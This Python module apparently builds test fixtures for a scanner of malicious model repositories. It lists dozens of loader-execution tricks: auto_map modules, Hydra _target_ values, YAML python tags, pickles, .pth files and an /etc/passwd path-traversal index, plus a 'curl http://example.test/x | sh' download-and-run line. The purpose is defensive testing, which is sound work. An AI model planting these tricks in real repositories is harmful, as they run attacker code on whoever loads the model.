"""Hostile repositories: harmless weights beside files that a loader runs."""

import json

from .assembly import SYSTEM_0
from .tensors import ELF, safetensors, entry

WEIGHTS = safetensors({"w": entry(0, 16)}, b"\0" * 16)
RUN = "import os\nos.system('true')\n"


def make(corpus):
    def add(name, files, why, source="", expected="found"):
        corpus.folder("repositories", name, {"model.safetensors": WEIGHTS, "README.md": "# A model\n", **files}, expected, why, source)

    def auto(code, name="modeling_m.py", reference="modeling_m.MForCausalLM", key="AutoModelForCausalLM"):
        return {"config.json": json.dumps({"model_type": "m", "auto_map": {key: reference}}), name: code}

    body = "\n\nclass MForCausalLM:\n    pass\n"
    add("auto-map-system", auto(RUN + body), "auto_map names a module that runs a command")
    add("auto-map-subprocess", auto("from subprocess import run as go\ngo(['true'])\n" + body), "auto_map: subprocess under another name")
    add("auto-map-exec", auto("import base64\nexec(base64.b64decode('cGFzcw=='))\n" + body), "auto_map: source decoded and run")
    add("auto-map-getattr", auto("getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n" + body), "auto_map: names put together")
    add("auto-map-network", auto("import urllib.request\nurllib.request.urlopen('http://example.test/x').read()\n" + body), "auto_map: a download on import")
    add("auto-map-init", auto("import os\n\n\nclass MForCausalLM:\n    def __init__(self, config):\n        os.popen('true')\n"), "auto_map: a command in the constructor")
    add("auto-map-import", {**auto("from .helper import go\ngo()\n" + body), "helper.py": "import os\n\n\ndef go():\n    os.system('true')\n"}, "auto_map: a second module runs it")
    add("auto-map-decorator", auto("import os\n\n\n@os.system\ndef true():\n    pass\n" + body), "auto_map: a decorator")
    add("auto-map-default", auto("import os\n\n\ndef f(x=os.system('true')):\n    pass\n" + body), "auto_map: a default value")
    add("auto-map-pickle", auto("import pickle\npickle.load(open('state.bin', 'rb'))\n" + body), "auto_map: loads a pickle on import")
    add("auto-map-ctypes", auto("import ctypes\nctypes.CDLL('./x.so')\n" + body), "auto_map: loads a native library")
    add("auto-map-remote", {"config.json": json.dumps({"auto_map": {"AutoModel": "somebody/else--modeling.Model"}})}, "auto_map names another repository", "CVE-2025-66448")
    add("auto-map-nested", {"config.json": json.dumps({"text_config": {"auto_map": {"AutoConfig": "configuration_m.C"}}}), "configuration_m.py": RUN}, "auto_map in a part of the configuration", "CVE-2025-66448")
    add("tokenizer-auto-map", {"tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tokenization_m.T", None]}}), "tokenization_m.py": RUN}, "a tokenizer's own code")
    add("processor-auto-map", {"preprocessor_config.json": json.dumps({"auto_map": {"AutoImageProcessor": "processing_m.P"}}), "processing_m.py": RUN}, "a processor's own code")
    add("generation", {"config.json": json.dumps({"model_type": "llama"}), "custom_generate/generate.py": RUN}, "code for generation")
    add("modules-json", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "evil.Transformer"}]), "evil.py": RUN}, "modules.json names its own module")
    add("modules-library", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}])}, "modules.json names a class of subprocess")
    add("diffusers", {"model_index.json": json.dumps({"_class_name": ["pipeline", "Mine"], "unet": ["unet", "Mine"]}), "pipeline.py": RUN, "unet/unet.py": RUN}, "a pipeline of its own")
    add("setup", {"setup.py": RUN + "from setuptools import setup\nsetup(name='m')\n"}, "setup.py")
    add("path-file", {"evil.pth": "import os; os.system('true')\n"}, "a .pth file with an import line")
    add("sitecustomize", {"sitecustomize.py": RUN}, "run at every start of Python")
    add("conftest", {"conftest.py": RUN}, "run by whoever runs tests")
    add("native", {"helper.so": bytes(ELF)}, "a native library")
    add("native-renamed", {"weights.dat": bytes(ELF)}, "an executable under another name")
    add("bytecode", {"__pycache__/m.cpython-311.pyc": b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 40}, "compiled Python")
    add("shell", {"install.sh": "#!/bin/sh\ncurl http://example.test/x | sh\n"}, "a script that downloads and runs")
    add("requirements", {"requirements.txt": "--index-url http://example.test/simple\nevil @ http://example.test/evil.zip\n"}, "requirements from elsewhere")
    add("pickle-beside", {"pytorch_model.bin": SYSTEM_0 + b"."}, "a pickle beside harmless weights", expected="malicious")
    add("optimizer", {"optimizer.pt": SYSTEM_0 + b"."}, "training state that calls", expected="malicious")
    add("training-arguments", {"training_args.bin": b"\x80\x04" + SYSTEM_0 + b"."}, "training arguments that call", expected="malicious")
    add("adapter", {"adapter_config.json": json.dumps({"auto_mapping": {"base_model_class": "Popen", "parent_library": "subprocess"}})}, "an adapter of a class of subprocess")
    add("index-slip", {"model.safetensors.index.json": json.dumps({"weight_map": {"w": "../../../etc/passwd"}})}, "an index that leaves the repository")
    hydra = lambda target, **rest: "model:\n  _target_: " + target + "\n" + "".join(f"  {k}: {v}\n" for k, v in rest.items())
    add("hydra-yaml", {"model_config.yaml": hydra("os.system", command="true")}, "a _target_ of os", "CVE-2025-23304")
    add("hydra-builtin", {"model_config.yaml": hydra("builtins.eval", source="'1'")}, "a _target_ of builtins", "CVE-2026-22584")
    add("hydra-json", {"config.json": json.dumps({"net": {"_target_": "subprocess.Popen", "args": ["true"]}})}, "a _target_ of subprocess", "CVE-2025-23304")
    add("hydra-unknown", {"model_config.yaml": hydra("mine.models.Model")}, "a _target_ of nobody knows whom")
    add("mlflow-loader", {"MLmodel": "flavors:\n  python_function:\n    loader_module: evil\n    code: code\n", "code/evil.py": RUN}, "a loader module of its own")
    add("mlflow-python-model", {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n", "python_model.pkl": b"\x80\x04" + SYSTEM_0 + b"."}, "a Python model that calls", expected="malicious")
    add("mlflow-code-path", {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\n", "agent.py": RUN}, "a model that is code")
    add("yaml-tag", {"config.yaml": "a: !!python/object/apply:os.getcwd []\n"}, "a tag that calls")
    add("yaml-new", {"config.yaml": "a: !!python/object/new:os.system [true]\n"}, "a tag that makes")
    add("yaml-name", {"config.yml": "- !<tag:yaml.org,2002:python/name:os.system> ''\n"}, "a tag written out")
